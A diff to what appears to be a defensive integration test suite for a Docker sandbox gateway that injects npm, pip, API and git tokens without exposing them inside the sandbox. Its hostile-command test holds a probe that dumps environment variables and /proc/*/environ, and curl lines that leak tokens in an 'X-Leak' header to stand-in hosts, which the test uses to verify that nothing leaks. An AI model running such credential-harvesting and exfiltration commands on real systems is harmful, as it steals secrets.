@@ -23,11 +23,27 @@ import { skipDocker } from "../support/docker-available.js";
 import { type GitSmartHttps, startGitSmartHttps } from "../support/egress/git-smart-https.js";
 import { loopbackLookup } from "../support/egress/loopback-lookup.js";
 import { ensureNetToolsImage } from "../support/egress/net-tools-image.js";
+import {
+  NPM_FIXTURE_EXPORT,
+  NPM_FIXTURE_PACKAGE,
+  startNpmRegistryStub,
+} from "../support/egress/npm-registry-stub.js";
+import {
+  PIP_FIXTURE_MODULE,
+  PIP_FIXTURE_PROJECT,
+  startPipIndexStub,
+} from "../support/egress/pip-index-stub.js";
 import { makeWorkspace } from "../support/workspace.js";
 
 const API = "api.example.org";
 const GIT = "git.example.org";
 const OTHER = "other.example.org";
+const REGISTRY = "registry.example.org";
+const PYPI = "pypi.example.org";
+const NPM_VALUE = "npm_REALregistryTOKEN77";
+const PIP_VALUE = "pypi-REALindexTOKEN55";
+const QUIET_NPM = "--no-audit --no-fund --no-update-notifier --fetch-retries=0";
+const QUIET_PIP = "--no-cache-dir --disable-pip-version-check --no-input --retries 0 --timeout 30";
 const API_VALUE = "api-REAL-token-4f1c9a7e21b0";
 const GIT_VALUE = "ghp_REALgitTOKEN9d8c7b6a5f4e";
 
@@ -63,7 +79,7 @@ async function recordingOrigin(tls: {
 }
 
 /** Reads everything a command in the sandbox can: environment, every /proc/PID/environ and readable memory. */
-const PROBE = String.raw`
+const PROBE = `
 env > /workspace/probe.out 2>&1
 for f in /proc/[0-9]*/environ; do cat "$f" >> /workspace/probe.out 2>/dev/null; done
 python3 - >> /workspace/probe.out 2>/dev/null <<'PY'
@@ -97,6 +113,10 @@ describe.skipIf(skipDocker)("secrets that never enter the sandbox", { timeout: 3
   let api: Awaited<ReturnType<typeof recordingOrigin>>;
   let other: Awaited<ReturnType<typeof recordingOrigin>>;
   let git: GitSmartHttps;
+  let npm: Awaited<ReturnType<typeof startNpmRegistryStub>>;
+  let pip: Awaited<ReturnType<typeof startPipIndexStub>>;
+  const npmSeen: string[] = [];
+  const pipSeen: string[] = [];
   let sandbox: DockerSandbox;
   const records: EgressRecord[] = [];
   const outputs: ExecResult[] = [];
@@ -116,6 +136,17 @@ describe.skipIf(skipDocker)("secrets that never enter the sandbox", { timeout: 3
     api = await recordingOrigin(tlsFor(API));
     other = await recordingOrigin(tlsFor(OTHER));
     git = await startGitSmartHttps(tlsFor(GIT), GIT_VALUE);
+    npm = await startNpmRegistryStub(REGISTRY, {
+      tls: tlsFor(REGISTRY),
+      accepts: (authorization) => authorization === `Bearer ${NPM_VALUE}`,
+      seen: npmSeen,
+    });
+    pip = await startPipIndexStub(PYPI, {
+      tls: tlsFor(PYPI),
+      accepts: (authorization) =>
+        authorization === `Basic ${Buffer.from(`__token__:${PIP_VALUE}`).toString("base64")}`,
+      seen: pipSeen,
+    });
     // The sandbox trusts OTHER's certificate directly (a blind tunnel: the gateway never sees inside).
     writeFileSync(join(ws.path, "other-ca.pem"), testCa.certPem, { mode: 0o644 });
     sandbox = await DockerSandbox.open({
@@ -138,9 +169,21 @@ describe.skipIf(skipDocker)("secrets that never enter the sandbox", { timeout: 3
             inBody: false,
             value: new SecretValue("GIT_TOKEN", GIT_VALUE),
           },
+          {
+            name: "NPM_TOKEN",
+            host: `${REGISTRY}:${npm.port}`,
+            inBody: false,
+            value: new SecretValue("NPM_TOKEN", NPM_VALUE),
+          },
+          {
+            name: "PIP_TOKEN",
+            host: `${PYPI}:${pip.port}`,
+            inBody: false,
+            value: new SecretValue("PIP_TOKEN", PIP_VALUE),
+          },
         ],
       },
-      egressLookup: loopbackLookup([API, GIT, OTHER]).lookup,
+      egressLookup: loopbackLookup([API, GIT, OTHER, REGISTRY, PYPI]).lookup,
       egressUpstreamCa: [testCa.certPem],
     });
     sandbox.egress?.subscribe((record) => records.push(record));
@@ -151,6 +194,8 @@ describe.skipIf(skipDocker)("secrets that never enter the sandbox", { timeout: 3
     api?.close();
     other?.close();
     await git?.close();
+    await npm?.close();
+    await pip?.close();
     ws?.[Symbol.dispose]();
   });
 
@@ -191,6 +236,34 @@ print(urllib.request.urlopen(r, timeout=30).read().decode(), end="")'`);
     }
   });
 
+  it("npm installs from a private registry with _authToken (Bearer) from the environment", async () => {
+    const install = await run(
+      `set -e; rm -rf /workspace/npmproj; mkdir /workspace/npmproj; cd /workspace/npmproj; ` +
+        `printf '%s\\n' 'registry=${npm.url}' '//${REGISTRY}:${npm.port}/:_authToken=\${NPM_TOKEN}' > .npmrc; ` +
+        `npm install ${NPM_FIXTURE_PACKAGE} ${QUIET_NPM} 2>&1; node -e 'console.log(require("${NPM_FIXTURE_PACKAGE}"))'`,
+    );
+    expect(install, install.stdout + install.stderr + JSON.stringify(install.egressDenied)).toMatchObject({
+      exitCode: 0,
+    });
+    expect(install.stdout).toContain(NPM_FIXTURE_EXPORT);
+    expect(npmSeen.length).toBeGreaterThanOrEqual(2);
+    expect(npmSeen.every((a) => a === `Bearer ${NPM_VALUE}`)).toBe(true);
+  });
+
+  it("pip installs from an index URL that carries the token", async () => {
+    const install = await run(
+      `python3 -m pip install ${PIP_FIXTURE_PROJECT} --index-url "https://__token__:$PIP_TOKEN@${PYPI}:${pip.port}/simple/" ` +
+        `--target /tmp/pylib ${QUIET_PIP} 2>&1 && PYTHONPATH=/tmp/pylib python3 -c 'import ${PIP_FIXTURE_MODULE}; print("imported")'`,
+    );
+    expect(install, install.stdout + install.stderr + JSON.stringify(install.egressDenied)).toMatchObject({
+      exitCode: 0,
+    });
+    expect(install.stdout).toContain("imported");
+    const accepted = `Basic ${Buffer.from(`__token__:${PIP_VALUE}`).toString("base64")}`;
+    expect(pipSeen.filter((a) => a === accepted).length).toBeGreaterThanOrEqual(2);
+    expect(install.stdout).not.toContain(PIP_VALUE);
+  });
+
   it("a hostile command finds the value nowhere, and its placeholder sent elsewhere is refused or useless", async () => {
     const probe = await run(PROBE);
     expect(probe.stdout).toContain("probed");
@@ -199,8 +272,10 @@ print(urllib.request.urlopen(r, timeout=30).read().decode(), end="")'`);
     expect(dump.includes("harness-secret-API_TOKEN-")).toBe(true);
     expect(dump.includes(API_VALUE)).toBe(false);
     expect(dump.includes(GIT_VALUE)).toBe(false);
+    expect(dump.includes(NPM_VALUE)).toBe(false);
+    expect(dump.includes(PIP_VALUE)).toBe(false);
 
-    const sends = await run(String.raw`
+    const sends = await run(`
 b64=$(printf 'u:%s' "$API_TOKEN" | base64 -w0)
 for url in "http://${OTHER}:${other.port}/h" "https://${OTHER}:${other.port}/h"; do
   curl -sS --cacert /workspace/other-ca.pem -H "X-Leak: $API_TOKEN" "$url"; echo
@@ -220,8 +295,7 @@ curl -sS -H "X-Leak: $GIT_TOKEN" "https://${API}:${api.port}/cross"; echo
     expect(api.seen.some((s) => s.url === "/cross")).toBe(false);
     expect(JSON.stringify(api.seen)).not.toContain(GIT_VALUE);
     const everything = JSON.stringify([outputs, records]);
-    expect(everything).not.toContain(API_VALUE);
-    expect(everything).not.toContain(GIT_VALUE);
+    for (const value of [API_VALUE, GIT_VALUE, NPM_VALUE, PIP_VALUE]) expect(everything).not.toContain(value);
   });
 
   it("control: the same probe finds a token that was put into the sandbox the old way", async () => {
